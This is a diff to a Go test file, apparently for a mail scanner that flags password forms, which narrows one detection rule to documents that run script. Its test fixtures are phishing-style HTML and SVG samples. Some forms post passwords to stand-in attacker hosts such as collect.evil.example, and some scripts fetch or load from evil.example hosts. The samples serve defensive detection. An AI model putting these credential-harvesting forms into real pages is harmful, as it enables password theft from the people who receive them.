@@ -21,7 +21,8 @@ func pwMail(header, doc string) []byte {
 // carry FlagPassword, wherever the form is (the body, an attached page, a
 // zipped page, HTML drawn in an SVG), however the type is written; a
 // password field whose form sends it nowhere read marks the message
-// (PasswordField); other forms and fields mark nothing.
+// (PasswordField) when its document runs script, which posts it; other
+// forms and fields mark nothing.
 func TestPasswordForms(t *testing.T) {
 	const (
 		page   = "Content-Type: text/html\r\nContent-Disposition: attachment; filename=\"Remittance.html\""
@@ -46,14 +47,19 @@ func TestPasswordForms(t *testing.T) {
 		{"HTML drawn in an SVG", svg, `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="300" height="200"><form xmlns="http://www.w3.org/1999/xhtml" action="https://collect.evil.example/p"><input type="PassWord"/></form></foreignObject><a href="https://view.evil.example/"><text>Open</text></a></svg>`, []string{"collect.evil.example"}, false},
 		{"an SVG drawn in the body", "", `<svg><foreignObject>` + form + `</foreignObject></svg>`, []string{"collect.evil.example"}, false},
 		{"a form without action posted by script", page, `<form id="f"><input type="email"><input type="password"></form><script>fetch("https://collect.evil.example/p",{method:"POST"})</script>`, nil, true},
-		{"a field outside any form", page, `<div><input type="password" id="p"><button onclick="send()">Next</button></div>`, nil, true},
-		{"an empty action", page, `<form action=""><input type="password"></form>`, nil, true},
-		{"a form without action in an SVG", svg, `<svg><foreignObject><form><input type="password"/></form></foreignObject></svg>`, nil, true},
-		{"a field in the body outside a form", "", `<p>Confirm your password</p><input type=password>`, nil, true},
+		{"a field outside any form sent by a handler", page, `<div><input type="password" id="p"><button onclick="send()">Next</button></div>`, nil, true},
+		{"an empty action and a submit handler", page, `<form action="" onsubmit="return go(this)"><input type="password"></form>`, nil, true},
+		{"a form without action in a scripted SVG", svg, `<svg><foreignObject><form><input type="password"/></form></foreignObject><script>fetch("/x")</script></svg>`, nil, true},
+		{"a zipped page posting by script", zipped, `<input type=password id=p><script src="https://cdn.evil.example/k.js"></script>`, nil, true},
+		{"a field in the body beside a script", "", `<p>Confirm your password</p><input type=password><script>go()</script>`, nil, true},
+		{"a field without any form or script sends nothing", page, `<div><input type="password" id="p"></div>`, nil, false},
+		{"a zipped sign-in template (relative action, no script)", zipped, `<form action="/account/login" method="post"><input name="u"><input type="password" name="p"></form>`, nil, false},
+		{"a form without action in an SVG without script", svg, `<svg><foreignObject><form><input type="password"/></form></foreignObject></svg>`, nil, false},
+		{"a field in the body outside a form, no script", "", `<p>Confirm your password</p><input type=password>`, nil, false},
 		{"a search form", "", `<form action="https://shop.example/search"><input type="search" name="q"><input type="submit"></form>`, nil, false},
 		{"a newsletter sign-up", page, `<form action="https://list.example/sub"><input type="email" name="e"><input type="text" value="password"></form>`, nil, false},
 		{"the word password only in text", "", `<p>Reset your password at <a href="https://id.example/reset">id.example</a></p>`, nil, false},
-		{"a password field after its form closed", "", `<form action="https://a.example/s"><input name="q"></form><input type="password">`, nil, true},
+		{"a password field after its form closed", page, `<form action="https://a.example/s"><input name="q"></form><input type="password"><script>go()</script>`, nil, true},
 		{"two forms, the second with the field", "", `<form action="https://search.example/"><input name=q></form><form action="https://collect.evil.example/p"><input type=password></form>`, []string{"collect.evil.example"}, false},
 		{"a form left open to the end", page, `<form action="https://collect.evil.example/p"><input type=password>`, []string{"collect.evil.example"}, false},
 		{"a hidden input named password", "", `<form action="https://a.example/"><input type="hidden" name="password"></form>`, nil, false},
